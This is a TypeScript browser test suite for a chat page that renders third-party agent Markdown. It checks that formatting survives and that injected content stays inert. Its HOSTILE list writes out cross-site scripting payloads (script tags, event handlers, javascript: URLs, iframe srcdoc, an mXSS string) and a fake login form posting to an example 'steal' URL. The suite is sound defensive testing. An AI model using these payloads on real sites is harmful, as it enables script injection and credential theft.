/**
 * Agent answers are Markdown from a third party. They render (lists, code, links) and every
 * attempt to run script, restyle or overlay the page is inert.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { browserSkip, openChat } from '../support/browser.js';
import { chatRig, pickAgent, readTaskId, sendMessage, waitForCount } from './chat-helpers.js';

const HOSTILE = [
  '<script>window.__pwned = "script"; alert("script")</script>',
  '<img src=x onerror="window.__pwned = \'img\'; alert(\'img\')">',
  '[a markdown link](javascript:window.__pwned=\'md-link\')',
  '<a href="javascript:window.__pwned=\'html-link\'">an html link</a>',
  '<a href="  JaVaScRiPt:alert(1)">mixed case</a>',
  '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
  '<div style="position:fixed;inset:0;background:red" onclick="window.__pwned=\'click\'">overlay</div>',
  '<form action="https://example.com/steal"><input name="password"><button>Log in</button></form>',
  '<svg onload="window.__pwned=\'svg\'"><circle r="5"></circle></svg>',
  '<details open ontoggle="window.__pwned=\'details\'"><summary>more</summary>x</details>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="https://example.com/docs" target="_self" onmouseover="window.__pwned=\'hover\'">a real link</a>',
  // Last: its unclosed tags swallow whatever follows.
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
].join('\n\n');

const RICH = [
  'Here is **what I found**:',
  '',
  '- first item',
  '- second item with `inline code`',
  '',
  '```js',
  `const veryLongLine = "${'x'.repeat(300)}";`,
  '```',
  '',
  `A long word: ${'Supercalifragilistic'.repeat(15)}`,
  '',
  'See [the docs](https://example.com/docs).',
].join('\n');

describe('chat page: rendering agent answers', { skip: browserSkip() }, () => {
  const rig = chatRig({ id: 'mallory', name: 'Mallory' });

  it('renders hostile HTML and links inert', async () => {
    const chat = await openChat(rig.browser, rig.server.url);
    try {
      const { page } = chat;
      await pickAgent(page, rig.agent.id);
      await sendMessage(page, 'try something nasty');
      const taskId = await readTaskId(page);
      const res = await rig.server.webhook({ taskId, response: HOSTILE, messageId: 'hostile' }, rig.agent.token);
      assert.equal(res.status, 200);
      const bubble = page.getByTestId('message-agent');
      await waitForCount(bubble, 1);
      await bubble.locator('.markdown').waitFor({ state: 'attached' });

      const forbidden = await bubble.locator('script, iframe, frame, object, embed, form, input, button, svg, math, style').count();
      assert.equal(forbidden, 0, 'no script, frame, form, svg or style element survives');
      const attributes = await bubble.locator('.markdown *').evaluateAll((els) =>
        els.flatMap((el) => (el as unknown as { getAttributeNames(): string[] }).getAttributeNames()),
      );
      assert.deepEqual(attributes.filter((a) => a.startsWith('on') || a === 'style' || a === 'srcdoc'), []);

      const links = await bubble.locator('a').evaluateAll((els) =>
        els.map((el) => {
          const a = el as unknown as { getAttribute(n: string): string | null };
          return { href: a.getAttribute('href'), target: a.getAttribute('target'), rel: a.getAttribute('rel') };
        }),
      );
      for (const link of links) {
        assert.ok(!/^\s*javascript:/i.test(link.href ?? ''), `no javascript: URL (${link.href})`);
        if (link.href) assert.deepEqual([link.target, link.rel], ['_blank', 'noopener noreferrer']);
      }
      assert.ok(links.some((l) => l.href === 'https://example.com/docs'), 'the real link survives');

      // Poke everything that could have carried a handler.
      for (const text of ['a markdown link', 'an html link', 'mixed case', 'overlay', 'more']) {
        const target = bubble.getByText(text, { exact: false }).first();
        if ((await target.count()) > 0) await target.click({ noWaitAfter: true, trial: false }).catch(() => undefined);
      }
      await bubble.getByText('a real link').hover();

      assert.equal(await page.evaluate('window.__pwned'), undefined, 'no injected code ran');
      assert.deepEqual(chat.dialogs, [], 'no dialog opened');
      assert.equal(page.url(), `${rig.server.url}/chat`);
      assert.deepEqual(chat.pageErrors, []);
    } finally {
      await chat.close();
    }
  });

  it('renders Markdown, and long words and code stay inside the bubble', async () => {
    const chat = await openChat(rig.browser, rig.server.url, { viewport: { width: 400, height: 700 } });
    try {
      const { page } = chat;
      await pickAgent(page, rig.agent.id);
      await sendMessage(page, 'show me something rich');
      const taskId = await readTaskId(page);
      await rig.server.webhook({ taskId, response: RICH, messageId: 'rich' }, rig.agent.token);
      const bubble = page.getByTestId('message-agent');
      await bubble.locator('.markdown').waitFor();

      assert.equal(await bubble.locator('strong').innerText(), 'what I found');
      assert.equal(await bubble.locator('ul > li').count(), 2);
      assert.equal(await bubble.locator('li code').innerText(), 'inline code');
      assert.match(await bubble.locator('pre code').innerText(), /const veryLongLine/);
      assert.equal(await bubble.locator('a').getAttribute('href'), 'https://example.com/docs');

      const overflow = await page.evaluate(
        `(() => {
          const bubble = document.querySelector('[data-testid="message-agent"] .bubble');
          const pre = bubble.querySelector('pre');
          return {
            page: document.documentElement.scrollWidth - document.documentElement.clientWidth,
            bubble: bubble.scrollWidth - bubble.clientWidth,
            preScrolls: pre.scrollWidth > pre.clientWidth,
          };
        })()`,
      );
      assert.deepEqual(overflow, { page: 0, bubble: 0, preScrolls: true });
    } finally {
      await chat.close();
    }
  });
});
